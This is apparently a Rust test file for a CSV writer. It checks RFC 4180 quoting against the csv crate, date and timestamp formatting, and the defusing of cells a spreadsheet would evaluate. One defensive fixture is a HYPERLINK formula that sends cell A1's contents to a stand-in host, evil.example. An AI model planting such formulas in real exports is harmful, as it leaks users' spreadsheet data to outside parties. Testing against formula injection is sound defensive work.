//! The CSV writer held to the `csv` crate, and its own formatting to
//! chrono's and `time::shown`.

use super::*;

/// `cells` written as one line.
fn line(cells: &[&str]) -> String {
    written(|line| cells.iter().for_each(|cell| line.cell(cell)))
}

#[test]
fn csv_cells_a_spreadsheet_would_run_are_led_by_a_quote() {
    for (cell, written) in [
        (
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"x\"\")\"",
        ),
        ("+33 3 20 21 22 23", "'+33 3 20 21 22 23"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "\"'\rx\""),
        ("-", "'-"),
        ("-inf", "'-inf"),
        ("-3.5", "-3.5"),
        ("-12", "-12"),
        ("1e-7", "1e-7"),
        ("Lille = Rijsel", "Lille = Rijsel"),
    ] {
        assert_eq!(line(&[cell, "x"]), format!("{written},x\r\n"), "{cell:?}");
    }
}

/// The cells the `csv` crate writes (RFC 4180, quoted only where
/// needed), each defused first: what this writer replaced.
fn by_the_csv_crate(cells: &[&str]) -> String {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    let defused: Vec<String> = cells
        .iter()
        .map(|c| match needs_defusing(c) {
            true => format!("'{c}"),
            false => c.to_string(),
        })
        .collect();
    writer.write_record(&defused).unwrap();
    String::from_utf8(writer.into_inner().unwrap()).unwrap()
}

#[test]
fn lines_are_written_as_the_csv_crate_writes_them() {
    let cells = [
        "",
        "plain",
        "a,b",
        "say \"hi\"",
        "\"",
        "\"\"",
        "two\r\nlines",
        "line\nfeed",
        "carriage\rreturn",
        "=1+1",
        "-3.5",
        "\r",
        "é, ü; ß",
        "'already'",
        ";",
        " space ",
    ];
    for a in cells {
        assert_eq!(line(&[a]), by_the_csv_crate(&[a]), "{a:?}");
        for b in cells {
            assert_eq!(line(&[a, b]), by_the_csv_crate(&[a, b]), "{a:?} {b:?}");
            assert_eq!(
                line(&[b, a, ""]),
                by_the_csv_crate(&[b, a, ""]),
                "{b:?} {a:?}"
            );
        }
    }
}

#[test]
fn any_cells_are_written_as_the_csv_crate_writes_them() {
    use proptest::prelude::*;
    let cell = proptest::string::string_regex("[a-z0-9,\"\r\n=+@\t' .;-]{0,40}").unwrap();
    let cells = proptest::collection::vec(cell, 0..=5);
    proptest::test_runner::TestRunner::default()
        .run(&cells, |cells| {
            let cells: Vec<&str> = cells.iter().map(String::as_str).collect();
            prop_assert_eq!(line(&cells), by_the_csv_crate(&cells));
            Ok(())
        })
        .unwrap();
}

/// What `write` writes on a line of its own.
fn written(write: impl FnOnce(&mut Line)) -> String {
    let mut line = Line::default();
    write(&mut line);
    line.end();
    String::from_utf8(line.into_bytes()).unwrap()
}

#[test]
fn days_and_integers_are_written_as_they_display() {
    let day = |y, m, d| chrono::NaiveDate::from_ymd_opt(y, m, d).unwrap();
    for day in [
        day(2010, 2, 12),
        day(0, 1, 1),
        day(9999, 12, 31),
        day(-5, 3, 4),
        day(12345, 6, 7),
    ] {
        assert_eq!(written(|l| l.day(&day)), line(&[&day.to_string()]), "{day}");
    }
    for n in [0, 7, -12, i64::MIN, i64::MAX] {
        assert_eq!(written(|l| l.integer(&n)), line(&[&n.to_string()]), "{n}");
    }
}

#[test]
fn stamps_are_written_as_json_shows_them() {
    let day = |y, m, d| chrono::NaiveDate::from_ymd_opt(y, m, d).unwrap();
    for at in [
        day(2026, 11, 26).and_hms_opt(9, 30, 0).unwrap(),
        day(2008, 1, 1)
            .and_hms_micro_opt(0, 0, 59, 999_999)
            .unwrap(),
        day(0, 1, 1).and_hms_opt(23, 59, 59).unwrap(),
        day(9999, 12, 31).and_hms_opt(23, 59, 59).unwrap(),
        day(-1, 12, 31).and_hms_opt(1, 2, 3).unwrap(),
        day(10000, 1, 1).and_hms_opt(0, 0, 0).unwrap(),
        // A leap second.
        day(2016, 12, 31)
            .and_hms_milli_opt(23, 59, 59, 1_500)
            .unwrap(),
    ] {
        assert_eq!(
            written(|l| l.stamp(&at)),
            line(&[&crate::time::shown(&at)]),
            "{at:?}"
        );
    }
}
